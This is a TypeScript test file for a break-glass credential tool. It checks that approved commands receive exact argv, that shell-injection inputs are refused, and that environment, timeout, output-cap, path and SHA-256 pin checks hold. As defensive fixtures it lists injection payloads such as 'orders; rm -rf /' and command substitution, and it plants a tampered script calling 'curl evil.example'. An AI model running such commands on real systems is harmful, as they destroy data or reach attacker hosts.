/**
 * Command credentials: argv is exactly what was approved. Every payload a
 * shell would act on is refused by validation and again by the runner, and —
 * even with both checks bypassed — reaches the program as one literal argument.
 */
import { createHash } from 'node:crypto';
import { chmod, mkdtemp, symlink, writeFile, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildArgv } from '../src/core/command.js';
import { evaluatePolicy } from '../src/core/policy.js';
import type { Policy, PolicyCommand, Request } from '../src/core/schemas.js';
import { execArgv, mintCommand, revokeCommand, type CommandRun } from '../src/runner/providers/command.js';

let dir = '';
const marker = join(tmpdir(), `bg-pwned-${process.pid}`);

async function script(name: string, body: string): Promise<string> {
  const p = join(dir, name);
  await writeFile(p, `#!/bin/sh\n${body}\n`);
  await chmod(p, 0o755);
  return p;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'bg-cmd-'));
  // Prints each argument followed by NUL: the credential is the argv it received.
  await script('argv.sh', `printf '%s\\0' "$@"`);
  await script('env.sh', 'env | sort');
  // Starts a child that would outlive it, in a directory of its own: the test finds it by its working directory.
  await script('slow.sh', 'mkdir -p "${0%/*}/slow" && cd "${0%/*}/slow" && { sleep 30 & wait; }');
  await script('flood.sh', 'head -c 200000 /dev/zero');
  await script('leaky-fail.sh', 'echo "s3cr3t-password" >&2; exit 3');
  await script('silent.sh', 'exit 0');
  await script('revoke.sh', `printf 'revoked %s' "$1" > "${dir}/revoked"`);
  await symlink('/bin/sh', join(dir, 'escape'));
});

const settings = () => ({ path: dir, env: ['ALLOWED_VAR'], timeoutMs: 10_000, maxOutputBytes: 64 * 1024 });
const def = (over: Partial<PolicyCommand> = {}): PolicyCommand => ({ name: 'db-password', run: ['argv.sh', '{database}'], inputs: { database: '.*' }, ...over });
const run = (inputs: Record<string, string>, over: Partial<PolicyCommand> = {}, runnerEnv: NodeJS.ProcessEnv = {}): CommandRun => ({
  session: 'inc-1-db',
  expires: '2026-11-21T04:00:00Z',
  def: def(over),
  inputs,
  settings: settings(),
  runnerEnv,
});
const argvOf = (out: Buffer) => out.toString('utf8').split('\0').slice(0, -1);

const PAYLOADS: [string, string][] = [
  ['semicolon', 'orders; rm -rf /'],
  ['and-and', 'orders && id'],
  ['pipe', 'orders|id'],
  ['command substitution', `$(touch ${marker})`],
  ['backticks', `\`touch ${marker}\``],
  ['double quotes', '"orders"'],
  ['single quotes', "'orders'"],
  ['newline', 'orders\nid'],
  ['leading dash', '-rf'],
  ['long option', '--help'],
  ['redirect', `>${marker}`],
  ['glob', '*'],
  ['tilde', '~root'],
  ['space', 'orders billing'],
  ['very long', 'a'.repeat(10_000)],
];

const policy = (cmd: PolicyCommand): Policy => ({
  apiVersion: 'breakglass.dev/v1',
  kind: 'Policy',
  metadata: { name: 'p' },
  spec: {
    requesters: ['*@vendor.example'],
    recipients: ['0123456789ABCDEF0123456789ABCDEF01234567'],
    approvals: { required: 1, approvers: ['alice'], allowSelfApproval: false },
    requestExpiry: '4h',
    reason: {},
    resources: [{ name: 'orders-db', type: 'command', privileges: ['read-write'], maxDuration: '1h', network: ['direct'], commands: [cmd] }],
  },
});
const request = (value: string): Request => ({
  apiVersion: 'breakglass.dev/v1',
  kind: 'Request',
  metadata: { id: 'inc-1-db', requester: 'dba@vendor.example', created: '2026-11-21T02:00:00Z' },
  spec: {
    reason: 'INC-1: orders',
    resource: 'orders-db',
    privilege: 'read-write',
    duration: '30m',
    network: 'direct',
    recipient: '0123456789ABCDEF0123456789ABCDEF01234567',
    command: { name: 'db-password', inputs: { database: value } },
  },
});

describe('command inputs that a shell would act on', () => {
  for (const [name, payload] of [...PAYLOADS, ['NUL', 'orders\0id'] as [string, string]]) {
    it(`refuses ${name} in validation and again in the runner, even when the policy pattern is .*`, async () => {
      const ev = evaluatePolicy(request(payload), [policy(def())], { now: Date.parse('2026-11-21T02:05:00Z'), checkStale: true });
      expect(ev.violations.map((v) => v.code)).toEqual(['INPUT_UNSAFE']);
      await expect(mintCommand(run({ database: payload }))).rejects.toMatchObject({ code: 'COMMAND_INPUT' });
    });
  }

  for (const [name, payload] of PAYLOADS) {
    it(`passes ${name} as exactly one literal argument when both checks are bypassed`, async () => {
      const out = await execArgv([join(dir, 'argv.sh'), ...buildArgv(['{x}'], { x: payload })], { cwd: dir, env: { PATH: '/usr/bin:/bin' }, timeoutMs: 10_000, maxOutputBytes: 1 << 20, what: 't' });
      expect(argvOf(out)).toEqual([payload]);
      await expect(stat(marker)).rejects.toThrow();
    });
  }

  it('cannot pass NUL at all: argv cannot carry it', async () => {
    await expect(execArgv([join(dir, 'argv.sh'), 'a\0b'], { cwd: dir, env: {}, timeoutMs: 1000, maxOutputBytes: 100, what: 't' })).rejects.toMatchObject({ code: 'COMMAND_INPUT' });
  });
});

describe('running an approved command', () => {
  it('runs the policy argv with the input substituted whole, and returns stdout as the credential', async () => {
    expect(argvOf(await mintCommand(run({ database: 'orders' })))).toEqual(['orders']);
  });

  it('refuses inputs the policy pattern does not whole-match, and missing or extra inputs', async () => {
    await expect(mintCommand(run({ database: 'orders2' }, { inputs: { database: 'orders|billing' } }))).rejects.toMatchObject({ code: 'COMMAND_INPUT' });
    await expect(mintCommand(run({}))).rejects.toMatchObject({ code: 'COMMAND_INPUT' });
    await expect(mintCommand(run({ database: 'orders', host: 'x' }))).rejects.toMatchObject({ code: 'COMMAND_INPUT' });
  });

  it('gives the command only allow-listed environment variables', async () => {
    const r: CommandRun = { ...run({}, { run: ['env.sh'], inputs: {} }), runnerEnv: { ALLOWED_VAR: 'yes', AWS_SECRET_ACCESS_KEY: 'nope', TS_API_KEY: 'nope' } };
    const out = (await mintCommand(r)).toString();
    expect(out).toContain('ALLOWED_VAR=yes');
    expect(out).toContain('BREAKGLASS_SESSION=inc-1-db');
    expect(out).toContain('PATH=/usr/local/bin:/usr/bin:/bin');
    expect(out).not.toContain('nope');
  });

  it('kills a command that runs past its timeout', async () => {
    const r = { ...run({}, { run: ['slow.sh'], inputs: {} }), settings: { ...settings(), timeoutMs: 300 } };
    await expect(mintCommand(r)).rejects.toMatchObject({ code: 'COMMAND_FAILED', message: 'command db-password did not finish within 0 s; killed' });
    // What the script started died with it: nothing keeps running after the session's command is killed.
    // Found by working directory, not by a pid file the script may not have written before the kill.
    const { readdir, readFile, readlink, realpath } = await import('node:fs/promises');
    const slow = join(await realpath(dir), 'slow');
    const running = async () => {
      const left: string[] = [];
      for (const pid of (await readdir('/proc')).filter((p) => /^\d+$/.test(p))) {
        const cwd = await readlink(`/proc/${pid}/cwd`).catch(() => '');
        if (cwd !== slow) continue;
        // A zombie (killed, not yet reaped by PID 1) runs no more.
        const stat = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => '');
        if (stat !== '' && !/^\d+ \(.*\) Z /.test(stat)) left.push(stat);
      }
      return left;
    };
    // The kill of the process group is asynchronous: give it a few seconds (a bound on waiting, not an assertion on time).
    const giveUp = Date.now() + 5000;
    let alive = await running();
    while (alive.length > 0 && Date.now() < giveUp) {
      await new Promise((res) => setTimeout(res, 20));
      alive = await running();
    }
    expect(alive).toEqual([]);
  });

  it('kills a command whose output exceeds the cap', async () => {
    await expect(mintCommand(run({}, { run: ['flood.sh'], inputs: {} }))).rejects.toMatchObject({ code: 'COMMAND_FAILED', message: 'command db-password wrote more than 65536 bytes; killed' });
  });

  it('never echoes stderr of a failing command, which may hold the secret', async () => {
    const err = (await mintCommand(run({}, { run: ['leaky-fail.sh'], inputs: {} })).catch((e: Error) => e)) as Error;
    expect(err.message).toBe('command db-password exited with code 3 (stderr: 16 bytes, not shown: it may hold secrets)');
    expect(err.message).not.toContain('s3cr3t');
  });

  it('refuses a command that produces no credential', async () => {
    await expect(mintCommand(run({}, { run: ['silent.sh'], inputs: {} }))).rejects.toMatchObject({ message: 'command db-password produced no output; nothing to deliver' });
  });

  it('finds programs only inside commands.path: no absolute paths, no .., no symlink out', async () => {
    for (const program of ['/bin/sh', '../argv.sh', 'escape', 'missing.sh']) {
      await expect(mintCommand(run({}, { run: [program], inputs: {} }))).rejects.toMatchObject({ code: 'COMMAND_PATH' });
    }
  });

  it('checks the pinned SHA-256 before every run', async () => {
    const p = await script('pinned.sh', 'echo token-1');
    const pin = createHash('sha256')
      .update(await (await import('node:fs/promises')).readFile(p))
      .digest('hex');
    expect((await mintCommand(run({}, { run: ['pinned.sh'], inputs: {}, sha256: pin }))).toString()).toBe('token-1\n');
    await script('pinned.sh', 'echo token-1; curl evil.example');
    await expect(mintCommand(run({}, { run: ['pinned.sh'], inputs: {}, sha256: pin }))).rejects.toMatchObject({ code: 'COMMAND_PIN' });
  });

  it('runs the revoke argv at teardown with the same inputs', async () => {
    expect(await revokeCommand(run({ database: 'orders' }, { revoke: ['revoke.sh', '{database}'] }))).toBe(true);
    expect(await (await import('node:fs/promises')).readFile(join(dir, 'revoked'), 'utf8')).toBe('revoked orders');
    expect(await revokeCommand(run({ database: 'orders' }))).toBe(false);
  });
});
